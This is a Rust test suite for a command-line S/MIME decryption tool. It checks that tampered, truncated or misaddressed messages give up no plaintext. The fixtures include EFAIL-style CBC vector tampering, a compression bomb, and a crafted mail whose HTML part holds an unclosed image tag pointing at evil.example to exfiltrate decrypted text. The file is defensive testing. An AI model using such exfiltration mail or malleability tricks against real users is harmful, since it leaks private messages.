//! DEC-01 to DEC-04 at the command line: of a message that was changed, cut, wrapped or meant for somebody else not one byte
//! is written, and why is told in one word for all that the key was asked about.

use std::process::Output;

use kenin_tests::bombs;
use kenin_tests::encryption::{Program, TEXT, Way, Workshop, said};
use kenin_tests::forge::certificates::pem;
use kenin_tests::forge::cms::content_info;
use kenin_tests::forge::der::{elements, int, octets, oid, seq, tlv};
use kenin_tests::forge::enveloped::{self, Parts};
use kenin_tests::forge::mime;
use kenin_tests::kenin::kenin;

const GCM: Way = Way {
    cipher: "aes-256-gcm",
    oaep: false,
};
const CBC: Way = Way {
    cipher: "aes-256-cbc",
    oaep: false,
};

#[track_caller]
fn closed(output: &Output, code: i32, words: &str) {
    assert_eq!(output.status.code(), Some(code), "{}", said(output));
    assert!(said(output).contains(words), "{}", said(output));
    assert!(output.stdout.is_empty(), "{}", said(output));
}

#[test]
fn a_changed_octet_of_what_has_a_tag_gives_nothing() {
    let shop = Workshop::new();
    let made = shop.encrypt(Program::Kenin, &shop.p256, GCM).unwrap();
    // The tag, and the content before it.
    for back in [1, 40, 60] {
        let mut changed = made.clone();
        let at = changed.len() - back;
        changed[at] ^= 1;
        closed(
            &shop.kenin_decrypt(&shop.p256, &changed),
            1,
            "cannot be decrypted",
        );
    }
    assert!(shop.kenin_decrypt(&shop.p256, &made).status.success());
}

/// The first block of CBC is whatever the initialisation vector makes of it (EFAIL): it opens, and says what that is worth.
#[test]
fn a_changed_vector_is_never_more_than_integrity_none() {
    let shop = Workshop::new();
    let made = shop.encrypt(Program::OpenSsl, &shop.p256, CBC).unwrap();
    // AlgorithmIdentifier of AES-256-CBC: its OID, then the vector.
    let oid = b"\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01\x2a\x04\x10";
    let at = made
        .windows(oid.len())
        .position(|window| window == oid)
        .unwrap();
    let mut changed = made.clone();
    changed[at + oid.len()] ^= 0x20;
    let output = shop.kenin_decrypt(&shop.p256, &changed);
    assert!(output.status.success(), "{}", said(&output));
    assert!(
        said(&output).contains("integrity: none"),
        "{}",
        said(&output)
    );
    assert!(!said(&output).contains("aead"), "{}", said(&output));
}

/// What gpgsm writes has a label of its own.
#[test]
fn an_object_in_pem_opens_under_every_label() {
    let shop = Workshop::new();
    let made = shop.encrypt(Program::OpenSsl, &shop.rsa, GCM).unwrap();
    let pair = shop.rsa.pair();
    for label in ["CMS", "PKCS7", "ENCRYPTED MESSAGE"] {
        let file = shop.file("object.pem");
        std::fs::write(&file, pem(label, &made)).unwrap();
        let output = kenin(&["decrypt", "--key", &pair, file.to_str().unwrap()]);
        assert!(output.status.success(), "{label}: {}", said(&output));
        assert!(said(&output).contains(TEXT), "{label}: {}", said(&output));
    }
}

/// BOMB-03: what was opened is written, and what stays compressed in it is told.
#[test]
fn what_cannot_be_expanded_is_told() {
    let shop = Workshop::new();
    let bomb = mime::opaque_entity("compressed-data", &bombs::compressed(1));
    let object = enveloped::encrypted(enveloped::Way::Gcm, &[&shop.rsa.person], &bomb);
    let output = shop.kenin_decrypt(&shop.rsa, &object);
    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
    let told = String::from_utf8_lossy(&output.stderr);
    assert!(told.contains("what is inside stays compressed"), "{told}");
    assert!(told.contains("message_size"), "{told}");
    let written = String::from_utf8_lossy(&output.stdout);
    assert!(written.contains("compressed-data"), "{written}");
}

/// DEC-03: what has a tag stands in AuthEnvelopedData, and nothing else does.
#[test]
fn a_cipher_in_the_wrong_object_is_not_opened() {
    let shop = Workshop::new();
    let made = shop.encrypt(Program::Kenin, &shop.rsa, GCM).unwrap();
    let rewritten = |from: &[u8], to: &[u8]| {
        let mut changed = made.clone();
        let at = changed
            .windows(from.len())
            .position(|window| window == from)
            .unwrap();
        changed[at..at + to.len()].copy_from_slice(to);
        changed
    };
    // aes256-GCM to aes256-CBC.
    let gcm = b"\x60\x86\x48\x01\x65\x03\x04\x01\x2e";
    let as_cbc = rewritten(gcm, b"\x60\x86\x48\x01\x65\x03\x04\x01\x2a");
    closed(&shop.kenin_decrypt(&shop.rsa, &as_cbc), 1, "of the cipher");
}

/// What cannot be read is encrypted all the same, and everybody sees why.
#[test]
fn an_encrypted_object_that_cannot_be_read_is_not_called_unencrypted() {
    let shop = Workshop::new();
    let made = shop.encrypt(Program::OpenSsl, &shop.rsa, GCM).unwrap();
    let parts = Parts::of(&made);
    let camellia = Parts {
        // camellia256-cbc.
        cipher: oid("1.2.392.200011.61.1.1.1.4"),
        ..Parts::of(&shop.encrypt(Program::OpenSsl, &shop.rsa, CBC).unwrap())
    };
    let cipher = seq([oid("2.16.840.1.101.3.4.1.42"), octets(&[9; 16])]);
    let data = oid("1.2.840.113549.1.7.1");
    let info = seq([data, cipher, tlv(0x80, &[0x77; 64])]);
    let encrypted_data = content_info("1.2.840.113549.1.7.6", &[int(0), info], false);
    for (object, words) in [
        (camellia.object(), "the cipher is not supported"),
        (encrypted_data, "the object is not enveloped"),
        (parts.clone().with_tag_of(8).object(), "the cipher"),
        (made[..made.len() - 20].to_vec(), "the object is not BER"),
    ] {
        let output = shop.kenin_decrypt(&shop.rsa, &object);
        closed(&output, 1, words);
        assert!(said(&output).contains("it is encrypted"), "{words}");
        // The same as a file of its own.
        let file = shop.file("object.der");
        std::fs::write(&file, &object).unwrap();
        let pair = shop.rsa.pair();
        closed(
            &kenin(&["decrypt", "--key", &pair, file.to_str().unwrap()]),
            1,
            words,
        );
    }
    // For this key, wrapped in a way that nobody here knows.
    let mut strange = parts;
    let info = elements(&strange.recipients[0]);
    let unknown = seq([oid("1.2.3.4")]);
    strange.recipients[0] = seq([info[0], info[1], &unknown, info[3]]);
    let strange = strange.object();
    closed(
        &shop.kenin_decrypt(&shop.rsa, &strange),
        1,
        "how it is wrapped for that key is not supported",
    );
    closed(
        &shop.kenin_decrypt(&shop.p256, &strange),
        1,
        "not encrypted for any of the keys",
    );
}

#[test]
fn an_encrypted_part_stays_as_it_is() {
    let shop = Workshop::new();
    let made = shop.encrypt(Program::Kenin, &shop.rsa, GCM).unwrap();
    let part = mime::opaque_entity("authenveloped-data", &made);
    let html = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n";
    let mail = mime::mixed(
        &mime::headers("mallory@evil.example"),
        "mixed",
        &[html, &part],
    );
    let file = shop.file("mixed.eml");
    std::fs::write(&file, mail).unwrap();
    let pair = shop.rsa.pair();
    let decrypt = |more: &[&str]| {
        let words = ["decrypt", "--key", &pair, file.to_str().unwrap()];
        kenin(&[&words[..], more].concat())
    };
    closed(&decrypt(&[]), 65, "not encrypted");
    assert!(!said(&decrypt(&[])).contains(TEXT));
}

#[test]
fn what_is_wrong_with_the_command_is_told_before_anything_is_opened() {
    let shop = Workshop::new();
    let made = shop.encrypt(Program::Kenin, &shop.rsa, GCM).unwrap();
    let file = shop.file("mail.eml");
    let raw = mime::opaque(&mime::headers("alice@example.jp"), "", &made);
    std::fs::write(&file, raw).unwrap();
    let file = file.display().to_string();
    closed(&kenin(&["decrypt", &file]), 2, "--key CERT:KEY");
    let swapped = format!(
        "{}:{}",
        shop.p256.certificate.display(),
        shop.rsa.key.display()
    );
    closed(
        &kenin(&["decrypt", "--key", &swapped, &file]),
        65,
        "the key of no certificate",
    );
    let absent = format!("{}:/nonexistent", shop.rsa.certificate.display());
    closed(
        &kenin(&["decrypt", "--key", &absent, &file]),
        66,
        "/nonexistent",
    );
    let other = shop.p256.pair();
    closed(
        &kenin(&["decrypt", "--key", &other, &file]),
        1,
        "not encrypted for any of the keys",
    );
    closed(
        &kenin(&["decrypt", "--key", &other, "/nonexistent"]),
        66,
        "/nonexistent",
    );
    // Two keys, and the right one is taken.
    let (pair, out) = (
        shop.rsa.pair(),
        shop.file("opened.eml").display().to_string(),
    );
    let words = [
        "decrypt", "--key", &other, "--key", &pair, "--output", &out, &file,
    ];
    let output = kenin(&words);
    assert!(output.status.success(), "{}", said(&output));
    assert!(output.stdout.is_empty());
    assert!(std::fs::read_to_string(&out).unwrap().contains(TEXT));
    closed(&kenin(&words), 2, "is there already");
    let dry = kenin(&["decrypt", "--key", &pair, "--dry-run", &file]);
    assert!(
        dry.status.success() && dry.stdout.is_empty(),
        "{}",
        said(&dry)
    );
}
